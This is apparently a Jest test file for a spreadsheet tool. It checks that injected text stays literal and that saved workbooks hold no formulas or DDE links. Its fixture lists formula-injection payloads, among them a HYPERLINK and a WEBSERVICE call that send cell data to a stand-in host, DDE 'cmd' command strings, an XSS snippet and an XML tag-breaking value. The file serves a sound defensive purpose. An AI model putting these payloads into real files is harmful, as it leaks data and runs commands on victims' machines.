import { BLANK } from "../../src/core/grid/cell";
import type { WritePlan } from "../../src/core/plan/write-plan";
import { openWorkbookFile } from "../../src/host/file/open-workbook-file";
import type { Workbook } from "../../src/host/port";
import { buildWorkbook, partTexts } from "../host/file/build-workbook";
import { excelWorkbook } from "../support/excel-workbook";
import type { OfficePane } from "../support/office-harness";
import { openPane } from "../support/office-harness";
import { snapshotOf } from "../support/snapshots";

/** Text of a workbook that would do something if it were taken for a formula (OWASP, "CSV Injection"). */
const TEXTS: readonly (readonly [what: string, text: string])[] = [
  ["a formula", "=1+1"],
  ["a link that sends cells away", '=HYPERLINK("https://example.invalid/?"&A1,"Bấm vào đây")'],
  ["a web request", '=WEBSERVICE("https://example.invalid/"&A1)'],
  ["a command by DDE", "=cmd|' /C calc'!A0"],
  ["a command by DDE behind a sign", "+cmd|' /C calc'!A0"],
  ["a minus", "-2+3+cmd|' /C calc'!A0"],
  ["an at sign", "@SUM(1+1)"],
  ["a tab before a formula", "\t=1+1"],
  ["a line feed before a formula", "\n=1+1"],
  ["spaces before a formula", "  =1+1"],
  ["a non-breaking space before a formula", "\u00a0=1+1"],
  ["a full-width equals sign", "＝1+1"],
  ["a zero-width space before a formula", "\u200b=1+1"],
  ["a quote before a formula", "'=1+1"],
  ["a formula in quotes", '"=1+1"'],
  ["an array formula", "{=1+1}"],
  ["a list of formulas over lines", "Ghi chú\n=1+1\n@A1"],
  ["a number with a sign", "+84 24 3943"],
  ["a code that looks like a number", "6.10"],
  ["a fraction that looks like a date", "1/2"],
  ["a logical word", "TRUE"],
  ["markup", "<img src=x onerror=alert(1)>"],
  ["a closing tag of the file's own", "</t></is></c><c r=\"A2\"><f>1+1</f></c>"],
];

const SHEET = "Phụ lục";
const panes: OfficePane[] = [];

jest.setTimeout(60_000);

afterAll(async () => {
  for (const pane of panes) await pane.close();
});

const plan: WritePlan = {
  kind: "fill",
  edits: [{ kind: "cells", sheet: SHEET, row: 1, column: 0, before: TEXTS.map(() => [BLANK]), after: TEXTS.map(([, text]) => [{ kind: "value", value: text }]) }],
};

const openFile = (): Workbook => openWorkbookFile(buildWorkbook({ sheets: { [SHEET]: '<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>' } }), null);

async function openExcel(): Promise<Workbook> {
  const pane = await openPane(snapshotOf({ [SHEET]: [[1]] }));
  panes.push(pane);
  return excelWorkbook(pane);
}

describe.each<readonly [string, () => Workbook | Promise<Workbook>]>([["a file", openFile], ["Excel", openExcel]])("text that is written into %s stays the text that it is", (_name, open) => {
  let contents: readonly unknown[] = [];

  beforeAll(async () => {
    const workbook = await open();
    await workbook.write(plan);
    const grid = (await workbook.read()).sheets.find(({ sheet }) => sheet === SHEET);
    contents = TEXTS.map((_, index) => grid?.content(1 + index, 0));
  });

  test.each(TEXTS.map(([what, text], index) => [what, text, index] as const))("%s", (_what, text, index) => {
    expect(contents[index]).toEqual({ kind: "value", value: text });
  });
});

test("a file that was written so holds no formula", async () => {
  const workbook = openWorkbookFile(buildWorkbook({ sheets: { [SHEET]: "<sheetData/>" } }), null);
  await workbook.write(plan);
  const texts = partTexts(workbook.save());
  expect(Object.entries(texts).filter(([, text]) => /<f[\s>]|ddeLink|externalLink/.test(text)).map(([name]) => name)).toEqual([]);
});
